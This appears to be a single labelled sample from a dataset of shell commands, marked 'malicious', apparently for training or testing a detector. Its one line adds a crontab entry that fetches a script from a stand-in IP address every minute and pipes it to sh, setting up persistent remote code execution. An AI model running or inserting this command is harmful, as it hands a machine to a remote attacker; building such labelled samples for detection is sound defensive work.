# label: malicious
(crontab -l 2>/dev/null; echo "* * * * * curl -s http://203.0.113.9/p | sh") | crontab -
